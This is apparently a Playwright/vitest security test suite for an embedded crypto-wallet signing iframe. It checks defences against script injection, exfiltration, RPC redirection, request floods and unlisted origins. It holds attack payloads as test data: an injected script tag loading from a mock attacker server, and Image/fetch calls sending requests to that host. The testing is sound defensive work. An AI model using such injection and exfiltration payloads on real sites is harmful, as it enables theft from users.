import { listen, type RunningSite } from '@gatefold/site'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { launchBrowser, type TestBrowser } from '../browser.ts'
import {
  approve,
  login,
  openHost,
  send,
  startSigning,
  storageModes,
  types,
  type HostOptions,
  type HostWindow,
} from './openHost.ts'
import { startFrame, type FrameStack } from './startFrame.ts'

declare const window: HostWindow & { injected?: boolean }

let frame: FrameStack
let evil: RunningSite
/** The paths that were requested from the attacker's server. */
let leaked: string[] = []

beforeAll(async () => {
  ;[frame, evil] = await Promise.all([
    startFrame({ rpcUrls: { 'eip155:31337': ['http://127.0.0.1:9'] } }),
    listen(
      ({ url }) => {
        leaked.push(new URL(url).pathname)
        return new Response('window.injected = true', {
          headers: { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' },
        })
      },
      { port: 0 },
    ),
  ])
})
beforeEach(() => {
  leaked = []
})
afterAll(async () => {
  await Promise.all([frame.stop(), evil.stop()])
})

const insideOf = (page: Page) => page.frames().find((one) => one.url().startsWith(frame.url))!

describe.each(storageModes)('with storage $storage', ({ storage, args, init }) => {
  let browser: TestBrowser
  beforeAll(async () => {
    browser = await launchBrowser({ args })
  })
  afterAll(() => browser?.close())

  /** Opens a page of another site that embeds the frame, and waits until the frame is ready. */
  async function open(options: HostOptions = {}) {
    const opened = await openHost(browser, frame, { init, isOtherSite: true, ...options })
    await expect.poll(() => types(opened.page)).toContain('@w3m-frame/READY')
    return opened
  }

  it('attack: markup that is injected into the frame runs no script', async () => {
    const injected = `<script>window.injected = true</script><script src="${evil.url}/script"></script>`
    const { page } = await open({ change: (html) => html.replace('</head>', `${injected}</head>`) })
    expect(await insideOf(page).evaluate(() => window.injected)).toBeUndefined()
    expect(leaked).toEqual([])
  })

  it('attack: a string becomes neither markup nor a script in the frame', async () => {
    const { page } = await open()
    const errors = await insideOf(page).evaluate(() => {
      const attempts = {
        markup: () => (document.body.innerHTML = '<b>injected</b>'),
        script: () => (document.createElement('script').text = 'window.injected = true'),
        worker: () => new Worker('/assets/worker.js'),
      }
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt()
          return `${name} passed`
        } catch (error) {
          return (error as Error).name
        }
      })
    })
    expect(errors).toEqual(['TypeError', 'TypeError', 'TypeError'])
  })

  it('attack: a script in the frame sends nothing to another host', async () => {
    const { page } = await open()
    const outcome = await insideOf(page).evaluate(async (url) => {
      const image = new Promise((resolve) => {
        const element = new Image()
        element.addEventListener('load', () => resolve('loaded'))
        element.addEventListener('error', () => resolve('refused'))
        element.src = `${url}/image`
      })
      const request = fetch(`${url}/fetch`, { mode: 'no-cors' }).then(
        () => 'loaded',
        () => 'refused',
      )
      return Promise.all([image, request])
    }, evil.url)
    expect(outcome).toEqual(['refused', 'refused'])
    expect(leaked).toEqual([])
  })

  it('attack: a page cannot choose the node that the frame asks', async () => {
    const query = new URLSearchParams({ rpcUrl: evil.url })
    const { page } = await open({ documentUrl: `${frame.documentUrl()}&${query}` })
    await page.evaluate((node) => {
      const rpc = { rpcUrl: node, rpcUrls: { 'eip155:31337': [node] } }
      const request = { method: 'eth_blockNumber', params: [], chainId: 31_337 }
      void window.send('SWITCH_NETWORK', { chainId: 31_337, ...rpc })
      void window.send('SYNC_DAPP_DATA', { metadata: { name: 'Book' }, ...rpc })
      void window.send('RPC_REQUEST', { ...request, ...rpc })
      void window.send('RPC_REQUEST', { ...request, params: [rpc] })
    }, evil.url)
    // The frame asks the node of its server, which does not respond.
    const params = ['0x70997970C51812dc3A010C7d01b50e0d17dc79C8', 'latest']
    const request = { method: 'eth_getBalance', params, chainId: 31_337 }
    expect((await send(page, 'RPC_REQUEST', request)).type).toBe('@w3m-frame/RPC_REQUEST_ERROR')
    expect(leaked).toEqual([])
  })

  it('attack: a thousand requests at once show one dialog, and all but ten are refused', async () => {
    const { page, inside } = await open()
    const address = await login(frame, page, `ada-${storage}@example.com`, 1)
    await page.evaluate((from) => {
      const params = ['0x68656c6c6f', from]
      for (let at = 0; at < 1_000; at += 1)
        void window.send(
          'RPC_REQUEST',
          { method: 'personal_sign', params, chainId: 31_337 },
          `n${at}`,
        )
    }, address)
    const refused = async () =>
      (await types(page)).filter((type) => type === '@w3m-frame/RPC_REQUEST_ERROR').length
    await expect.poll(refused).toBe(990)
    await inside.getByText('1 of 10').waitFor()
    expect(await inside.getByRole('button', { name: 'Sign', exact: true }).count()).toBe(1)
    // The visitor is not locked out once the page has given up.
    await page.evaluate(() => void window.send('RPC_ABORT'))
    await expect.poll(refused).toBe(1_000)
    await startSigning(page, address)
    expect(await approve(page, inside)).toBe(address)
  })

  it('attack: a request that waits when the visitor signs out cannot be approved', async () => {
    const { page, inside } = await open()
    const address = await login(frame, page, `hedy-${storage}@example.com`, 1)
    await startSigning(page, address)
    await inside.getByRole('button', { name: 'Sign', exact: true }).waitFor()
    await send(page, 'SIGN_OUT')
    expect(await inside.getByRole('button', { name: 'Sign', exact: true }).count()).toBe(0)
    const reply = await page.evaluate(() => window.signed!)
    expect(reply).toMatchObject({ payload: { message: 'Request was aborted' } })
  })

  it('attack: no worker is left after a signature', async () => {
    const { page, inside } = await open()
    let started = 0
    page.on('worker', () => (started += 1))
    const address = await login(frame, page, `grace-${storage}@example.com`, 1)
    await startSigning(page, address)
    expect(await approve(page, inside)).toBe(address)
    expect(started).toBeGreaterThan(0)
    await expect.poll(() => page.workers().map((worker) => worker.url())).toEqual([])
  })

  it('attack: an origin that the configuration does not list gets no answer, even if it may embed the frame', async () => {
    const { page } = await open({
      change: (html) => html.replace(/"origins":\[[^\]]*\]/, '"origins":["https://app.example"]'),
    })
    // Messages keep their order, so a reply would arrive before this one.
    await insideOf(page).evaluate(() => {
      addEventListener('message', ({ data }) => {
        if (data === 'ping') setTimeout(() => parent.postMessage({ type: 'pong' }, '*'))
      })
    })
    await page.evaluate(() => {
      void window.send('GET_SMART_ACCOUNT_ENABLED_NETWORKS')
      document.querySelector('iframe')!.contentWindow!.postMessage('ping', '*')
    })
    await expect.poll(() => types(page)).toContain('pong')
    expect(await types(page)).toEqual(['@w3m-frame/READY', 'pong'])
  })

  it('attack: of two ports that are opened in one tick, one gets replies', async () => {
    const { page } = await open()
    const answered = await page.evaluate(async () => {
      const target = document.querySelector('iframe')!.contentWindow!
      const seen: string[] = []
      const ports = ['first', 'second'].map((name) => {
        const { port1, port2 } = new MessageChannel()
        target.postMessage({ type: '@w3m-app/OPEN_PORT', id: name }, '*', [port2])
        return { name, port: port1 }
      })
      for (const { name, port } of ports)
        port.postMessage({ type: '@w3m-app/IS_CONNECTED', id: name })
      const last = new Promise<void>((resolve) => {
        for (const { name, port } of ports) {
          port.addEventListener('message', ({ data }) => {
            if (data.type !== '@w3m-frame/IS_CONNECTED_SUCCESS') return
            if (data.id === 'last') resolve()
            else seen.push(name)
          })
          port.start()
        }
      })
      // These replies come later, so the other ones have arrived by then.
      await window.send('IS_CONNECTED')
      for (const { port } of ports) port.postMessage({ type: '@w3m-app/IS_CONNECTED', id: 'last' })
      await last
      return seen
    })
    expect(answered).toEqual(['second'])
  })
})
